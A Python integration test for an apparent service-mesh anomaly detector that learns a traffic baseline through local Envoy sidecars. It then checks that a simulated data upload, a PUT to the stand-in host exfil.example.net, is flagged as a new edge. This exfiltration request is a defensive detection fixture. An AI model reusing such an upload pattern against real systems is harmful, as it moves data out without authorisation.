"""Learn → promote → detect through real Envoy sidecars, and keep the learned state."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from prometheus_client.parser import text_string_to_metric_families

from meshwatch.localmesh.launcher import LocalMesh
from tests.conftest import Running, eventually
from tests.runtime.test_envoy_mesh import HTTPBIN_HOST, TOPOLOGY

pytestmark = pytest.mark.envoy


async def _post(url: str) -> tuple[int, Any]:
    async with aiohttp.ClientSession() as s, s.post(url) as r:
        return r.status, await r.json()


async def _normal_traffic(mesh: LocalMesh, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    i = 0
    while time.monotonic() < deadline:
        i += 1
        await mesh.request("sleep", HTTPBIN_HOST, f"/status/{i % 20}", size=200)
        if i % 3 == 0:
            await mesh.request("sleep", "api.stripe.com", "/v1/charges", "POST", b"{}")
        if i % 5 == 0:
            await mesh.tcp("sleep", "tcp-echo.default.svc.cluster.local", b"ping")
        await asyncio.sleep(0.01)


async def test_learn_promote_then_a_new_edge_is_an_anomaly_and_state_survives_a_restart(
    meshwatch: Any, tmp_path: Path
) -> None:
    state = tmp_path / "state"
    mw: Running = await meshwatch(window=0.5, min_requests=3, mode="learn", state_dir=state)
    async with LocalMesh(
        TOPOLOGY, mw.service.als_port, tmp_path / "mesh", flush_seconds=0.2
    ) as mesh:
        status, refused = await _post(mw.http + "/api/v1/baseline/promote")
        assert status == 409
        assert "need at least" in refused["detail"]

        await _normal_traffic(mesh, 12)
        await eventually(lambda: _learned_windows(mw), timeout=20)
        status, promoted = await _post(mw.http + "/api/v1/baseline/promote")
        assert status == 200, promoted
        assert promoted["model"]["edge_count"] >= 2
        assert (await mw.get_json("/api/v1/baseline"))["mode"] == "observe"

        assert (
            await mesh.request("sleep", "exfil.example.net:8443", "/upload", "PUT", b"x" * 4096)
        )[0] == 200

        async def new_edge() -> list[dict[str, Any]]:
            doc = await mw.get_json("/api/v1/anomalies?kind=new-edge")
            return [a for a in doc["anomalies"] if a["target"] == "external/exfil.example.net"]

        (anomaly,) = await eventually(new_edge, timeout=15)
        assert anomaly["source"] == "default/sleep"
        assert anomaly["samples"][0]["path"] == "/upload"
        assert anomaly["samples"][0]["method"] == "PUT"
        assert "never seen while learning" in anomaly["reason"]
        graph = await mw.get_json("/api/v1/graph")
        statuses = {(e["source"], e["target"]): e["status"] for e in graph["edges"]}
        assert statuses[("default/sleep", "external/exfil.example.net")] == "new"
        assert statuses[("default/sleep", "default/httpbin")] in ("normal", "anomalous")
        async with aiohttp.ClientSession() as s, s.get(mw.http + "/metrics") as r:
            families = {f.name: f for f in text_string_to_metric_families(await r.text())}
        (sample,) = [
            x
            for x in families["meshwatch_anomalies"].samples
            if x.name.endswith("_total") and x.labels["kind"] == "new-edge"
        ]
        assert sample.value == 1
        # known edges are never "new" (statistical alerts on them are possible: traffic just stopped)
        new_edges = (await mw.get_json("/api/v1/anomalies?kind=new-edge"))["anomalies"]
        assert {a["target"] for a in new_edges} == {"external/exfil.example.net"}

    await mw.stop()
    assert (state / "model.skops").exists()
    again: Running = await meshwatch(window=0.5, min_requests=3, mode="observe", state_dir=state)
    baseline = await again.get_json("/api/v1/baseline")
    assert baseline["mode"] == "observe"
    assert baseline["known_edges"] >= promoted["model"]["edge_count"]


async def _learned_windows(mw: Running) -> bool:
    doc = await mw.get_json("/api/v1/baseline")
    return bool(doc["learning"]["windows"] >= 60)
